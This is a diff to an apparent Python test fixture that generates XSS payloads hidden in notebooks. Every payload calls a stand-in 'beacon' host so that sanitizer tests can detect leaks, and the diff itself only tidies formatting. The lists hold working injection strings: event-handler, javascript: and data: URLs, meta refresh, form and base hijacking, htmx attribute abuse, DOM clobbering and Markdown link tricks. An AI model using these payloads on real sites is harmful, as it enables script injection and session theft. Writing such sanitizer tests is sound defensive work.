@@ -1,8 +1,10 @@
 """Notebooks that attack their reader: every payload, in every place that a notebook has.
 
-Each payload calls `beacon`, an address that must never be asked for. The unit tests look at the HTML, the browser
-tests count the calls.
+Each payload calls `beacon`, an address that must never be asked for. The unit tests look at the HTML, the
+browser tests count the calls.
 """
+
+# ruff: noqa: E501  a payload is one line
 
 import json
 from base64 import b64encode
@@ -26,8 +28,8 @@ def payloads(beacon: str = BEACON) -> list[str]:
         f"<img/src='x'/onerror='{js.replace(chr(39), chr(34))}'>",
         f"<img src='{beacon}?img'>",
         f"<img srcset='{beacon}?srcset 1x'>",
-        f"<img src='//beacon.invalid/hit?scheme'>",
-        f"<img src='/\\beacon.invalid/hit'>",
+        "<img src='//beacon.invalid/hit?scheme'>",
+        "<img src='/\\beacon.invalid/hit'>",
         f"<img src='  \t{beacon}?blank'>",
         f"<picture><source srcset='{beacon}?picture'><img src=x></picture>",
         f"<body onload=\"{js}\" background='{beacon}?bg'>",
@@ -52,8 +54,8 @@ def payloads(beacon: str = BEACON) -> list[str]:
         f"<link rel=stylesheet href='{beacon}?link'>",
         f"<link rel=prefetch href='{beacon}?prefetch'><link rel=preconnect href='{beacon}'>",
         f'<p style="background:url({beacon}?style)">x</p>',
-        f"<p style='position:fixed;inset:0;z-index:9999'>over the page</p>",
-        f"<div class='notice ok top badge frozen error-name'>imitating the page</div>",
+        "<p style='position:fixed;inset:0;z-index:9999'>over the page</p>",
+        "<div class='notice ok top badge frozen error-name'>imitating the page</div>",
         f'<meta http-equiv=refresh content="0;url={beacon}?refresh">',
         f"<base href='{beacon}'>",
         f"<form action='{beacon}' id=search><input name=q autofocus onfocus=\"{js}\"><button formaction='{beacon}'>x</button></form>",
@@ -79,14 +81,14 @@ def payloads(beacon: str = BEACON) -> list[str]:
         f'<a href="vbscript:{js}">click</a>',
         f'<a href="data:text/html;base64,{eaten}">click</a>',
         f"<a href='https://example.org' ping='{beacon}?ping' target=_blank>click</a>",
-        f'<a href="blob:https://example.org/x">click</a>',
+        '<a href="blob:https://example.org/x">click</a>',
         f"<q cite='{beacon}?cite'>x</q><blockquote cite=\"javascript:{js}\">x</blockquote>",
         f"<div hx-get='{beacon}?hx' hx-trigger=load data-hx-get='{beacon}?dhx' data-hx-trigger=load>x</div>",
         f'<div hx-on:click="{js}" hx-on--load="{js}" data-hx-on-load="{js}">x</div>',
         f"<div hx-ext=x hx-vals=\"js:{js}\" hx-headers='js:{{}}'>x</div>",
         "<img id=csrfmiddlewaretoken name=cookie><form id=main name=body></form><a id=main name=main>x</a>",
         f'<p tabindex=1 contenteditable accesskey=s autofocus onfocus="{js}">x</p>',
-        f"<p is=x-y slot=s part=p popover popovertarget=x nonce=y>x</p>",
+        "<p is=x-y slot=s part=p popover popovertarget=x nonce=y>x</p>",
         f'<isindex action="javascript:{js}" type=image>',
         f"<!--[if gte IE 4]><script>{js}</script><![endif]--><![CDATA[<script>{js}</script>]]>",
         f"<!--><img src=x onerror={js}>-->",
@@ -116,7 +118,7 @@ def markdown_payloads(beacon: str = BEACON) -> list[str]:
         f"<javascript:{js}>",
         f"![img]({beacon}?mdimg)",
         f'![img](data:image/svg+xml,<svg/onload="{js}">)',
-        f"![img](attachment:evil.svg)",
+        "![img](attachment:evil.svg)",
         f"[![img]({beacon}?nested)](javascript:{js})",
         f'![a" onerror="{js}](x "b\' onerror=\'{js}")',
         f'[a](x "&quot; onclick=&quot;{js}")',
